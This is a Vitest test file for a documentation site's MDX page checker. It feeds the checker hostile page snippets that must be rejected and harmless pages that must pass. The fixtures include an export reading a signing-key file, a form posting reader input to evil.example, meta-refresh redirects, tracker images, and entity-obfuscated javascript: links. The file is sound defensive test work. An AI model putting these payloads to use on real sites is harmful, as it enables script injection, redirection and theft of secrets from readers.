/**
 * Pages as data: the check of every page's MDX syntax tree (src/check/check-mdx.ts) against hostile
 * inputs, each a small page and the problem it must give, at its line; and harmless pages that
 * must pass, the guide's own pages among them.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { addressProblem, checkMdx, checkMdxText, elementNames, normalizeAddress, parseLiteral } from '../../src/check/check-mdx';
import { componentImports, PAGE_COMPONENT_NAMES, PAGE_COMPONENTS } from '../../src/check/page-components';
import { ROOT } from '../helpers/project';

const FILE = 'content/docs/fr/tools/x.mdx';
/** A page of three frontmatter lines and a first paragraph; what a test adds starts on line 8. */
const page = (body: string) => `---\ntitle: X\nreviewed: 2026-11-23\n---\n\nA first paragraph.\n\n${body}\n`;
const problemsOf = (body: string) => checkMdxText(FILE, page(body)).map((p) => [p.field, p.message]);

/** Each: a hostile block of MDX, the line (of the page) and column of the problem, and what it says in part. */
const HOSTILE: [name: string, body: string, field: string, message: RegExp][] = [
	[
		'an export that reads the signing key, shown in a <pre>',
		'export const k = (await import("node:fs")).readFileSync(process.env.PLAYBOOK_SIGNING_KEY_FILE, "utf8")\n\n<pre>{k}</pre>',
		'line 8, column 1',
		/^an export is not allowed in a page: "export const k = \(await import\("node:fs"\)\)\.readFileSync\(p…" would run as code during the build$/,
	],
	['an export that writes a file', 'export const w = (await import("node:fs")).writeFileSync("dist/x.js", "document.title = 1")', 'line 8, column 1', /^an export is not allowed in a page/],
	['an import of a Node module', 'import fs from "node:fs";', 'line 8, column 1', /^an import is not allowed in a page: "import fs from "node:fs";"/],
	['an import from another site', 'import x from "https://evil.example/x.js";', 'line 8, column 1', /^an import is not allowed in a page: "import x from "https:\/\/evil\.example\/x\.js";"/],
	['a page that imports itself', "import Self from './x.mdx';", 'line 8, column 1', /^an import is not allowed in a page: "import Self from '\.\/x\.mdx';"/],
	['an expression in the text', 'Your home is {process.env.HOME}.', 'line 8, column 14', /^a JavaScript expression \{process\.env\.HOME\} is not allowed in a page$/],
	['a tag name computed in JSX', '{(() => { const T = "scr" + "ipt"; return <T src="/x.js" /> })()}', 'line 8, column 1', /^a JavaScript expression \{\(\(\) => \{ const T = "scr" \+ "ipt"; return <T src/],
	['an element named by a member expression', '<a.b href="/" />', 'line 8, column 1', /^the element name <a\.b> is computed from code/],
	['a fragment', '<>text</>', 'line 8, column 1', /^a fragment <>…<\/> is not allowed in a page$/],
	['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example" />', 'line 8, column 1', /^<meta> is not allowed in a page: it could send readers to another site$/],
	['a <style> that hides the quick exit', '<style>{"quick-exit{display:none!important}"}</style>', 'line 8, column 1', /^<style> is not allowed in a page: it would change how every part of the page looks, the quick exit included$/],
	['an <iframe> built in JSX', '<iframe src="https://evil.example/" width="1" height="1"></iframe>', 'line 8, column 1', /^<iframe> is not allowed in a page/],
	['a <form> built in JSX', '<form action="https://evil.example/collect" method="post"><input name="q" /></form>', 'line 8, column 1', /^<form> is not allowed in a page: it would send what readers type to an address$/],
	['a <script> written as a component name', '<Script src="/x.js" />', 'line 8, column 1', /^<Script> is not allowed in a page: it would run a script/],
	['raw HTML through a Fragment', '<Fragment set:html="<script>alert(1)</script>" />', 'line 8, column 1', /^<Fragment> is not allowed in a page: it writes raw HTML into the page$/],
	['an element of no list', '<marquee>news</marquee>', 'line 8, column 1', /^<marquee> is not an element pages may use$/],
	['a javascript: link with a tab written as a character reference', '[x](java&#9;script:alert(1))', 'line 8, column 1', /^a javascript: address is not allowed in a page/],
	['a javascript: address with an entity in an <a>', 'Read <a href="jav&#x61;script&colon;alert(1)">this</a>.', 'line 8, column 9', /^a javascript: address is not allowed in a page/],
	['a vbscript: address in upper case', '<a href="VBScript:msgbox(1)">x</a>', 'line 8, column 4', /^a vbscript: address is not allowed in a page/],
	['a data: address in a definition', '[home]: data:text/html;base64,PHNjcmlwdD4=', 'line 8, column 1', /^a data: address is not allowed in a page/],
	['an event attribute with a function', '<a href="/" onClick={() => alert(1)}>home</a>', 'line 8, column 13', /^the event attribute "onClick" on <a> is not allowed in a page$/],
	['an event attribute in lower case', '<img src="/x.png" alt="" onerror="alert(1)" />', 'line 8, column 26', /^the event attribute "onerror" on <img>/],
	['a style attribute', '<img src="/x.png" alt="" style="position:fixed;inset:0" />', 'line 8, column 26', /^a style attribute on <img> is not allowed in a page$/],
	['a spread attribute', '<a {...{ href: "javascript:alert(1)" }}>home</a>', 'line 8, column 4', /^a spread attribute \{\.\.\.\{ href: "javascript:alert\(1\)" \}\} on <a> is not allowed in a page$/],
	['an address built by an expression', '<a href={"java" + "script:alert(1)"}>home</a>', 'line 8, column 4', /^the value of "href" on <a> is a JavaScript expression/],
	['an Astro directive', '<span set:html="<b>x</b>">x</span>', 'line 8, column 7', /^the directive "set:html" on <span> is not allowed in a page$/],
	['an attribute of no list', '<a href="/" target="_blank" ping="https://evil.example/">x</a>', 'line 8, column 13', /^the attribute "target" is not allowed on <a> in a page$/],
	['an image from another site, in Markdown', '![pixel](https://tracker.example/p.png)', 'line 8, column 1', /^"https:\/\/tracker\.example\/p\.png" would be loaded from another site/],
	['an image from another site, by a definition', '![pixel][p]\n\n[p]: //tracker.example/p.png', 'line 8, column 1', /^"\/\/tracker\.example\/p\.png" would be loaded from another site/],
	['an image from another site, in HTML', '<img src="https://tracker.example/p.png" alt="" />', 'line 8, column 6', /^"https:\/\/tracker\.example\/p\.png" would be loaded from another site/],
	['a component given a computed prop', '<ResourceList topics={Object.fromEntries([["a", "b"]])} />', 'line 8, column 15', /^the value of "topics" on <ResourceList> is a JavaScript expression/],
	['a component given a prop it does not take', '<ToolTable kind="email" />', 'line 8, column 12', /^<ToolTable> takes no prop "kind"$/],
	['a component given a value of the wrong kind', '<ReleaseKey compact="yes" />', 'line 8, column 13', /^the prop "compact" of <ReleaseKey> must be true or false/],
	['a component without a prop it needs', '<ResourceList otherLanguage="" />', 'line 8, column 1', /^<ResourceList> needs the prop "topics"$/],
	['a page that cannot be read', 'A line.\n\n<details>\n\nNo end.', 'line 10, column 1', /^the page cannot be read as MDX: Expected a closing tag for `<details>`$/],
];

describe('hostile pages are refused, at their line and column, with a fix', () => {
	test.each(HOSTILE)('%s', (_, body, field, message) => {
		const problems = checkMdxText(FILE, page(body));
		expect(problems.length, JSON.stringify(problems, null, 1)).toBeGreaterThan(0);
		expect(problems[0]!.file).toBe(FILE);
		expect([problems[0]!.field, problems[0]!.message]).toEqual([field, expect.stringMatching(message)]);
		for (const p of problems) expect(p.fix.length).toBeGreaterThan(20);
	});

	test('each import or export of a block is named at its own line, and the fix for a component import says it is provided', () => {
		const problems = checkMdxText(FILE, page("import ToolTable from '@components/ToolTable.astro';\nexport const x = 1;\n\n<ToolTable />"));
		expect(problems.map((p) => p.field)).toEqual(['line 8, column 1', 'line 9, column 1']);
		expect(problems[0]!.fix).toBe('remove the line: <ToolTable /> is provided to every page by the build.');
		expect(problems[1]!.message).toMatch(/^an export is not allowed/);
	});

	test('what a refused element holds is not reported again; the expression in a <pre> is', () => {
		expect(problemsOf('<style>{"x{}"}</style>')).toHaveLength(1);
		expect(problemsOf('<pre>{k}</pre>')).toEqual([['line 8, column 6', 'a JavaScript expression {k} is not allowed in a page']]);
	});

	test('did you mean, for a component spelt wrong', () => {
		const [problem] = checkMdxText(FILE, page('<Tooltable />'));
		expect(problem!.fix).toMatch(/^did you mean <ToolTable>\?/);
	});

	test('a Markdown (.md) page holds no HTML at all', () => {
		const problems = checkMdxText('content/docs/en/x.md', page('<b onclick="x">hi</b>\n\n<meta http-equiv="refresh" content="0" />'));
		expect(problems.map((p) => [p.field, p.message.split(' ("')[0]])).toEqual([
			['line 8, column 1', 'HTML is not allowed in a Markdown (.md) page'],
			['line 8, column 18', 'HTML is not allowed in a Markdown (.md) page'],
			['line 10, column 1', 'HTML is not allowed in a Markdown (.md) page'],
		]);
	});
});

describe('harmless pages pass', () => {
	test('every page of the guide, in every language', () => {
		expect(checkMdx(ROOT)).toEqual([]);
	});

	test('Markdown, asides, a comment, plain HTML for text and tables, links to other sites, local images', () => {
		const body = [
			'## A heading',
			'',
			'**Bold**, _em_, `code {x}`, [a page](../signal/), [a site](https://signal.org/), [mail](mailto:a@example.org), \\{ a brace.',
			'',
			':::caution[Careful]',
			'Text.',
			':::',
			'',
			'{/* A note to other translators. */}',
			'',
			'![A photo](/images/photo.png) <img src="images/a.png" alt="A" width="20" />',
			'',
			'<details open><summary>More</summary>Text with <abbr title="Two-factor authentication">2FA</abbr>, <kbd>Ctrl</kbd> and <span lang="en" dir="ltr">English</span>.</details>',
			'',
			'<table><thead><tr><th scope="col" colspan={2}>A</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
			'',
			'```',
			'<script>in a code block: shown, not run</script>',
			'```',
		].join('\n');
		expect(problemsOf(body)).toEqual([]);
	});

	test('the guide’s components with literal props', () => {
		const body = "<RiskSelector />\n\n<ReleaseKey compact />\n\n<ReleaseKey compact={false} />\n\n<ResourceList\n\ttopics={{\n\t\t'digital-security': 'Sécurité numérique',\n\t\t\"other\": \"Autre\",\n\t}}\n\totherLanguage=\"(en anglais)\"\n/>\n\n<ToolTable /> <DownloadList /> <CopyVerifier />";
		expect(problemsOf(body)).toEqual([]);
	});
});

describe('passages for a signed or an unsigned release', () => {
	test('<WhenSigned> and <WhenUnsigned> may hold Markdown, headings and components, and import nothing', () => {
		const body = '<WhenSigned>\n\n## With a signature\n\n<ReleaseKey />\n\n</WhenSigned>\n\n<WhenUnsigned>\n\nCompare the [checksum](../downloads/).\n\n</WhenUnsigned>\n\nIn a line: <WhenUnsigned>not signed</WhenUnsigned>.';
		expect(problemsOf(body)).toEqual([]);
		expect(componentImports(elementNames(page(body)))).toBe(componentImports(['ReleaseKey']));
	});

	test('take no attribute, and a misspelt one is named', () => {
		expect(problemsOf('<WhenSigned if="yes">\n\nText.\n\n</WhenSigned>')).toEqual([['line 8, column 13', '<WhenSigned> takes no prop "if"']]);
		const [problem] = checkMdxText(FILE, page('<WhenSined>\n\nText.\n\n</WhenSined>'));
		expect(problem!.fix).toMatch(/^did you mean <WhenSigned>\?/);
	});
});

describe('helpers', () => {
	test('addresses are read as a browser reads them', () => {
		expect(normalizeAddress('java&#9;script:x')).toBe('javascript:x');
		expect(normalizeAddress(' \tjava\nscript&colon;x')).toBe('javascript:x');
		expect(normalizeAddress('&amp;#106;avascript:x')).toBe('javascript:x');
		expect(addressProblem('https://signal.org/', 'link')).toBeUndefined();
		expect(addressProblem('../signal/', 'load')).toBeUndefined();
		expect(addressProblem('https://signal.org/x.png', 'load')?.message).toMatch(/another site/);
		expect(addressProblem('\\\\evil.example/x.png', 'load')?.message).toMatch(/another site/);
		expect(addressProblem('JaVaScRiPt:x', 'link')?.message).toMatch(/^a javascript: address/);
	});

	test('literals are read; anything else is not', () => {
		expect(parseLiteral(" { a: 'x', \"b\": [1, -2.5, true, null], } ")).toEqual({ value: { a: 'x', b: [1, -2.5, true, null] } });
		expect(parseLiteral("'it\\'s'")).toEqual({ value: "it's" });
		for (const code of ['x', '`x`', '"a" + "b"', 'f()', '{ [k]: 1 }', '{ a }', '{ ...x }', '"x".y', '{ __proto__: 1 }', '1; x', '() => 1', '"a\nb"'])
			expect(parseLiteral(code), code).toBeUndefined();
	});

	test('the build imports the components a page names, and only those', () => {
		expect(elementNames('---\ntitle: x\n---\n\n<ToolTable />\n\nText <b>x</b>\n\n<ReleaseKey compact />\n')).toEqual(['ReleaseKey', 'ToolTable', 'b']);
		expect(componentImports(['ToolTable', 'b', 'ReleaseKey', 'Nope'])).toBe(
			`import ReleaseKey from ${JSON.stringify(join(ROOT, 'components/ReleaseKey.astro'))};\nimport ToolTable from ${JSON.stringify(join(ROOT, 'components/ToolTable.astro'))};`,
		);
		expect(elementNames('<b>\n')).toEqual([]);
	});

	test('every component pages may use exists, with the props it is listed with', () => {
		for (const name of PAGE_COMPONENT_NAMES) {
			const source = readFileSync(join(ROOT, PAGE_COMPONENTS[name].file.replace('@components/', 'components/')), 'utf8');
			for (const prop of Object.keys(PAGE_COMPONENTS[name].props)) expect(source, `${name}.${prop}`).toMatch(new RegExp(`\\b${prop}\\??:`));
		}
	});
});
